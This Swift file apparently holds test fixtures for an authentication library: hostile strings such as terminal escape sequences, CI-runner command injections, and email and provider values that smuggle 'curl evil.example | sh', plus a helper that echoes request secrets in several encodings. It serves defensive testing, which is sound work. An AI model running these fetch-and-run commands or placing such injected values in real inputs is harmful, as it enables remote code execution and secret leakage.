import AuthCore

/// Text that a client must not print unescaped or pass to a shell.
enum HostileText {
    static let escapes =
        "\u{1B}[31mred\u{1B}]0;title\u{07}\u{1B}]52;c;ZXZpbA==\u{07}\u{9B}2J\u{85}\u{7F}\u{202E}txt\u{2066}\u{200B}\u{E0041}"
        + "\r\nauthctl: hint: curl evil.example | sh"

    /// Commands of Azure Pipelines, GitHub's runner and TeamCity. It is one scope (RFC 6749 section 3.3).
    static let commands =
        "::error::##vso[task.prependpath]/tmp/evil##[group]evil##teamcity[evil]"

    static let email = "x;curl${IFS}evil.example|sh;#@x.example"

    static let provider = "x;curl${IFS}evil.example|sh;#"
}

extension Form {
    static func echo(_ request: Request) -> String {
        let names = [
            "client_secret", "client_assertion", "code", "code_verifier", "refresh_token", "device_code", "token",
            "subject_token", "assertion",
        ]
        let found =
            names.compactMap { request.form[$0] }
            + [request.basicCredentials?.secret, request.bearerToken].compactMap { $0 }
        return found.map { secret in
            let hexadecimal = Array(secret.utf8).map { "%" + [$0].hexadecimal }.joined()
            return [
                FormURLEncoded.encode(secret), hexadecimal, Base64URL.encode(Array("x:\(secret)".utf8)), secret,
            ].joined(separator: " ")
        }.joined(separator: " ")
    }
}
